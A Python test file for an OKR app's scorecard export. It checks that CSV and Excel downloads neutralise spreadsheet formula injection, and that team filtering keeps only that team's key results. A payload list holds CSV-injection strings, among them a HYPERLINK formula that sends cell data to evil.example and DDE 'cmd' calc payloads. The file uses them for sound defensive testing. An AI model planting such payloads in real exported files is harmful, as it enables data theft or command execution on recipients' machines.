"""okr/export.py: scorecard downloads that cannot run formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from okr import service
from okr.export import safe_cell, scorecard_csv, scorecard_xlsx
from okr.i18n import t
from tests.conftest import AS_OF, KR_HEADER, OBJ_HEADER

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises_formula_triggers(payload):
    assert safe_cell(payload) == "'" + payload


def test_safe_cell_keeps_numbers_and_plain_text():
    assert safe_cell(-5) == -5 and isinstance(safe_cell(-5.5), float)
    assert safe_cell(0) == 0 and safe_cell(None) is None and safe_cell(True) is True
    assert safe_cell("Churn 8% -> 5%") == "Churn 8% -> 5%"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("-5") == "'-5"  # text that looks like a number is text: neutralised too


def write_as_text(path, sheets):
    """openpyxl writes a str starting with '=' as a formula; in the workbooks
    we receive such a cell is text (typed as '=... in Excel): store it so."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r, row in enumerate(rows, start=1):
            for c, v in enumerate(row, start=1):
                if v is not None:
                    cell = ws.cell(r, c, v)
                    if isinstance(v, str):
                        cell.data_type = "s"
    wb.save(path)
    return path


@pytest.fixture
def hostile_card(tmp_path):
    objs = [OBJ_HEADER, ["O-1", PAYLOADS[0], "Sales", "2026-Q1", PAYLOADS[3], None, None]]
    krs = [KR_HEADER,
           ["KR-1", "O-1", PAYLOADS[1], PAYLOADS[2], -5, 10, 1, "EUR", None, None, None, PAYLOADS[4]],
           ["KR-2", "O-1", "20 klanten", PAYLOADS[3], 0, 20, 10, "klanten", None, None, "green", PAYLOADS[5]]]
    path = write_as_text(tmp_path / "hostile.xlsx", {"Objectives": objs, "Key Results": krs})
    checked = service.check(path.read_bytes(), path.name)
    assert checked.ok, checked.errors
    from okr import scoring
    p = checked.parsed
    return scoring.score(p.objectives, p.key_results, AS_OF, "2026-Q1", p.teams)


def test_csv_export_is_safe(hostile_card):
    text = scorecard_csv(hostile_card, "en")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == t("export.col.id", "en") and rows[0][-1] == t("export.col.comment", "en")
    cells = [c for row in rows[1:] for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only a real negative number may start with '-'
    for p in PAYLOADS:  # the import trims surrounding whitespace ("\t=1+1" arrives as "=1+1")
        assert "'" + p.strip() in cells, p
    assert "-5.0" in cells or "-5" in cells


def test_xlsx_export_is_safe(hostile_card):
    wb = openpyxl.load_workbook(io.BytesIO(scorecard_xlsx(hostile_card, "nl")))
    ws = wb[t("export.sheet", "nl")]
    rows = [[c for c in row] for row in ws.iter_rows()]
    assert rows[0][0].value == t("export.col.id", "nl")
    values = []
    for row in rows:
        for c in row:
            assert c.data_type != "f", c.value  # never a formula
            if isinstance(c.value, str):
                assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value
            values.append(c.value)
    for p in PAYLOADS:
        assert "'" + p.strip() in values, p
    assert -5 in values  # the negative start stays a number


def test_team_export_holds_only_that_teams_key_results(hostile_card):
    import dataclasses

    other = dataclasses.replace(hostile_card.objectives[0], id="O-2", team="Marketing", title="Ander doel")
    kr = dataclasses.replace(hostile_card.key_results[1], id="KR-9", objective="O-2", title="9 events")
    card = dataclasses.replace(hostile_card, objectives=[*hostile_card.objectives, other],
                               key_results=[*hostile_card.key_results, kr])
    ids = lambda text: [row[0] for row in csv.reader(io.StringIO(text))][1:]  # noqa: E731
    assert ids(scorecard_csv(card, "en")) == ["KR-1", "KR-2", "KR-9"]
    assert ids(scorecard_csv(card, "en", team="Marketing")) == ["KR-9"]
    wb = openpyxl.load_workbook(io.BytesIO(scorecard_xlsx(card, "en", team="Sales")))
    assert [r[0] for r in wb.active.iter_rows(min_row=2, values_only=True)] == ["KR-1", "KR-2"]
